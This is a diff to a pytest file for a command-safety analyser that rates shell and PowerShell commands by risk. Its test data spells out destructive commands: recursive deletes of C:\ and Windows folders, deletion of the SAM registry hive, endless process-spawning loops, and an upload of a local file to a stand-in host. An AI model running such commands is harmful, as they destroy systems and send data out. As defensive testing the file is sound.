@@ -18,11 +18,14 @@ difference (levels, findings, spans, budget steps).
 
 from __future__ import annotations
 
+import re
 from collections.abc import Callable
 from contextlib import AbstractContextManager
 from typing import Any
 
-from aintern_ls.safety import cmd
+import pytest
+
+from aintern_ls.safety import cmd, powershell
 from aintern_ls.safety.analyser import _assess_cached
 from aintern_ls.safety.levels import RiskLevel
 from tests.safety.test_s20_speed import _stand_in
@@ -90,7 +93,7 @@ def test_a_text_without_a_loop_does_not_look_for_one_at_every_segment() -> None:
 
 def test_every_spelling_of_a_for_word_lets_the_loop_readers_run() -> None:
     # cmd drops quotes and carets (a caret before a line break joins the lines)
-    spellings = ["for", "FOR", "@for", 'f"o"r', "f^or", '"for"', "fo^\nr", "F^O^R", "@F\"or\""]
+    spellings = ["for", "FOR", "@for", 'f"o"r', "f^or", '"for"', "fo^\nr", "F^O^R", '@F"or"']
     for spelling in spellings:
         text = f"{spelling} %a in (C:\\Windows C:\\x) do (rd /s /q %a)"
         assert cmd._may_loop(text), spelling
@@ -99,3 +102,68 @@ def test_every_spelling_of_a_for_word_lets_the_loop_readers_run() -> None:
         assert analyse(text, "cmd", None).level == RiskLevel.BLOCKED, spelling
     for text in ("x (a&&b)", "echo (fo r)", 'echo "f" or'):
         assert not cmd._may_loop(text), text
+
+
+class _Searches:
+    """A compiled pattern's stand-in that counts its searches (`search`, `finditer`); its
+    other attributes are the pattern's (`.pattern`, `.flags`: the needle gate reads them)."""
+
+    def __init__(self, compiled: re.Pattern[str]) -> None:
+        self.compiled = compiled
+        self.calls = 0
+
+    def search(self, text: str, *args: Any) -> re.Match[str] | None:
+        self.calls += 1
+        return self.compiled.search(text, *args)
+
+    def finditer(self, text: str, *args: Any) -> Any:
+        self.calls += 1
+        return self.compiled.finditer(text, *args)
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self.compiled, name)
+
+
+ORDINARY_PS = [
+    "Remove-Item -Recurse -Force build",
+    "Get-ChildItem -Path C:\\temp -Recurse | Select-Object Name, Length",
+    "Copy-Item -Force a.txt b.txt",
+    "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
+    "Write-Host 'formatting done'",
+]
+# (pattern, a text that must reach its search)
+CONTROLS = {
+    "_ENDLESS_SPAWN": "while ($true) { Start-Process notepad }",
+    "_WMICLASS_CREATE": "([wmiclass]'Win32_Process').Create('cmd /c rd /s /q C:\\')",
+    "_NET_WRITE": "[IO.File]::WriteAllText('x.ps1', 'Remove-Item -Recurse C:\\')",
+    "_WEB_UPLOAD": "(New-Object Net.WebClient).UploadFile('http://x.example/u', 'C:\\a.txt')",
+    "_IO_DELETE": "[System.IO.File]::Delete('C:\\Windows\\win.ini')",
+    "_DASH_LED": "ls; -name x",
+}
+
+
+@pytest.mark.parametrize("name", sorted(CONTROLS))
+def test_ordinary_powershell_is_not_searched_for_what_it_cannot_hold(name: str) -> None:
+    with _stand_in(powershell, name, _Searches) as searches:
+        for text in ORDINARY_PS:
+            analyse(text, "powershell", None)
+    # before sb22: one search a text (`_ENDLESS_SPAWN`: those holding `for`, as `-Force`)
+    assert searches.calls == 0, (name, searches.calls)
+    with _stand_in(powershell, name, _Searches) as control:
+        analyse(CONTROLS[name], "powershell", None)
+    assert control.calls >= 1, name
+
+
+def test_the_gated_powershell_readers_keep_their_verdicts() -> None:
+    cases = {
+        "while ($true) { Start-Process powershell }": RiskLevel.BLOCKED,
+        "for (;;) { saps cmd }": RiskLevel.BLOCKED,
+        "do { Start-Job { 1 } } while ($true)": RiskLevel.BLOCKED,
+        "1..[int]::MaxValue | % { Start-Process cmd }": RiskLevel.BLOCKED,
+        "while ($true) { Start-Process notepad; Start-Sleep 5 }": RiskLevel.MODERATE,
+        "[IO.File]::Delete('C:\\Windows\\System32\\config\\SAM')": RiskLevel.BLOCKED,
+        "([wmiclass]'Win32_Process').Create('cmd /c rd /s /q C:\\')": RiskLevel.BLOCKED,
+        "Remove-Item -Recurse -Force build": RiskLevel.DANGEROUS,
+    }
+    for text, level in cases.items():
+        assert analyse(text, "powershell", None).level == level, text
